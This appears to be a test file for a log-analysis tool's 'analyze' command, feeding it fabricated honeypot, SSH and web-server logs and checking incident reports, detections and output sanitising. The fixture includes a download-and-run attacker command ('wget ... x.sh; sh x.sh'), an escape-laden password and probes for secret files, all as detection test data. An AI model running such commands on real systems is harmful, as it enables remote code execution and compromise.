/** `analyze` as its user meets it. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { captured } from './captured.fixture.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'ns-analyze-'));
  mkdirSync(join(folder, 'logs'));
  mkdirSync(join(folder, 'home'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const at = (second: number) => new Date(Date.UTC(2026, 10, 20, 9, 30, second)).toISOString();

function cowrie(ip: string, events: readonly (readonly [string, object?])[]): string {
  return events
    .map(([eventid, more], second) =>
      JSON.stringify({
        eventid: `cowrie.${eventid}`,
        timestamp: at(second),
        src_ip: ip,
        session: `s${ip}`,
        sensor: 'pot1',
        ...more,
      }),
    )
    .join('\n');
}

function logs(): string {
  const breakIn = cowrie('198.51.100.7', [
    ['session.connect', { src_port: 40112 }],
    ['login.failed', { username: 'root', password: 'a' }],
    ['login.success', { username: 'root', password: '\u202eadmin\u001b[2J' }],
    ['command.input', { input: 'wget http://203.0.113.9/x.sh; sh x.sh' }],
    ['session.closed'],
  ]);
  writeFileSync(join(folder, 'logs', 'cowrie.json'), `${breakIn}\n`);
  writeFileSync(
    join(folder, 'logs', 'old.gz'),
    gzipSync(cowrie('203.0.113.5', [['session.connect'], ['session.closed']])),
  );
  writeFileSync(join(folder, 'logs', 'README.md'), 'Nothing to see.\n');
  return join(folder, 'logs');
}

const analyze = (...args: readonly string[]) => captured(['--data', join(folder, 'home'), 'analyze', ...args]);

describe('analyze', () => {
  it('tells of each attacker in a folder, the worst first, and names what it cannot read', async () => {
    const { code, out, err } = await analyze(logs());
    expect(code).toBe(0);
    const lines = out.split('\n');
    expect(lines[1]).toContain('198.51.100.7');
    expect(lines[1]).toMatch(/^(high|critical)/);
    expect(lines[2]).toContain('203.0.113.5');
    expect(out).toContain('2 incidents in 7 events of 2 files');
    expect(err).toContain('README.md: no format that we read');
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  });

  it('prints an incident a line for programs', async () => {
    const { out } = await analyze(logs(), '--json');
    const [first, second, ...rest] = out
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rest).toEqual([]);
    expect(first).toMatchObject({
      attacker: { ip: '198.51.100.7' },
      first_seen: at(0),
      last_seen: at(4),
      techniques: expect.arrayContaining(['T1105']),
      detections: expect.arrayContaining([{ id: 'decoy-login-success', title: expect.any(String), count: 1 }]),
    });
    expect(second).toMatchObject({ attacker: { ip: '203.0.113.5' }, severity: 'info' });
  });

  it('asks rules of the user as well', async () => {
    const rule = join(folder, 'mine.yml');
    writeFileSync(
      rule,
      'title: Mine\nid: 6f3e4b0e-0000-4000-8000-000000000001\nlogsource: {}\nlevel: critical\ntags: [attack.t1078]\ndetection:\n  sel:\n    user.name: root\n    event.outcome: success\n  condition: sel\n',
    );
    const { out } = await analyze(logs(), '--json', '--rules', rule);
    expect(JSON.parse(out.split('\n')[0]!)).toMatchObject({
      severity: 'critical',
      detections: expect.arrayContaining([{ id: '6f3e4b0e-0000-4000-8000-000000000001', title: 'Mine', count: 1 }]),
    });
  });

  it('writes a report that only its owner may read', async () => {
    const report = join(folder, 'report.html');
    const { err } = await analyze(logs(), '--report', report);
    expect(err).toContain('report.html');
    expect(statSync(report).mode & 0o777).toBe(0o600);
    expect(readFileSync(report, 'utf8')).toContain('198.51.100.7');
    const failed = await analyze(logs(), '--report', join(folder, 'nowhere', 'report.html'));
    expect(failed.code).toBe(1);
    expect(failed.err).toContain('could not be written');
  });

  it('tells of logins from places too far apart, where a table says where addresses are', async () => {
    const log = join(folder, 'auth.log');
    const accepted = (minute: number, ip: string) =>
      `2026-11-20T09:${minute}:00Z web1 sshd[42]: Accepted password for mary from ${ip} port 40112 ssh2\n`;
    writeFileSync(log, accepted(10, '192.0.2.7') + accepted(40, '198.51.100.7'));
    const table = join(folder, 'places.csv');
    writeFileSync(
      table,
      'network,latitude,longitude,country\n192.0.2.0/24,52.5,13.4,DE\n198.51.100.0/24,-33.9,151.2,AU\n',
    );
    const vpn = join(folder, 'vpn.txt');
    writeFileSync(vpn, '198.51.100.0/24\n');
    const { out } = await analyze(log, '--address-table', table, '--json');
    expect(JSON.parse(out)).toMatchObject({
      attacker: { ip: '198.51.100.7' },
      severity: 'high',
      detections: [{ id: 'impossible-travel', count: 1 }],
    });
    expect((await analyze(log, '--json')).out).toBe('');
    expect((await analyze(log, '--address-table', table, '--vpn', vpn, '--json')).out).toBe('');
    expect(await analyze(log, '--vpn', vpn)).toMatchObject({ code: 2, err: expect.stringContaining('address table') });
    expect(await analyze(log, '--address-table', vpn)).toMatchObject({
      code: 1,
      err: expect.stringContaining('no table of where addresses are'),
    });
    const config = join(folder, 'netsentinel.yaml');
    writeFileSync(config, 'networks:\n  addressTable: places.csv\n  vpns: [vpn.txt]\n');
    const configured = await captured(['--config', config, '--data', join(folder, 'home'), 'analyze', log, '--json']);
    expect(configured).toMatchObject({ code: 0, out: '' });
    writeFileSync(config, 'networks:\n  addressTable: missing.csv\n');
    const missing = await captured(['--config', config, '--data', join(folder, 'home'), 'analyze', log]);
    expect(missing.err).toMatch(/missing\.csv cannot be read/);
  });

  it('says whose scanner it is, by the list, by the configuration and by the command line', async () => {
    const line = (ip: string, path: string): string =>
      `${ip} - - [21/Nov/2026:09:30:00 +0000] "GET ${path} HTTP/1.1" 404 12 "-" "Mozilla/5.0"`;
    const paths = ['/.env', '/.git/config', '/backup.sql', '/wp-config.php.bak', '/admin.php'];
    const from = ['71.6.146.185', '192.0.2.9', '198.51.100.9', '203.0.113.9'];
    writeFileSync(
      join(folder, 'logs', 'access.log'),
      `${from.flatMap((ip) => paths.map((path) => line(ip, path))).join('\n')}\n`,
    );
    const config = join(folder, 'netsentinel.yaml');
    writeFileSync(config, 'networks:\n  ownScanners: [192.0.2.0/28]\n');
    const args = ['--config', config, '--data', join(folder, 'home'), 'analyze', join(folder, 'logs'), '--json'];
    const { out } = await captured([...args, '--own-scanner', '198.51.100.9']);
    const told = out
      .trim()
      .split('\n')
      .map((text) => JSON.parse(text) as { attacker: { ip: string }; severity: string; scanner?: { id: string } });
    const who = new Map(told.map(({ attacker, severity, scanner }) => [attacker.ip, `${severity} ${scanner?.id}`]));
    expect(Object.fromEntries(who)).toEqual({
      '192.0.2.9': 'low own',
      '198.51.100.9': 'low own',
      '203.0.113.9': 'medium undefined',
      '71.6.146.185': 'low shodan',
    });
    const wrong = await captured([...args, '--own-scanner', '10.0.0.1/8']);
    expect(wrong).toMatchObject({ code: 2, err: expect.stringContaining('one of your own scanners is an address') });
  });

  it('says what is missing', async () => {
    expect(await analyze()).toMatchObject({ code: 1, err: expect.stringContaining('no logs are named') });
    expect(await analyze(join(folder, 'nowhere'))).toMatchObject({
      code: 4,
      err: expect.stringContaining('cannot read'),
    });
  });
});
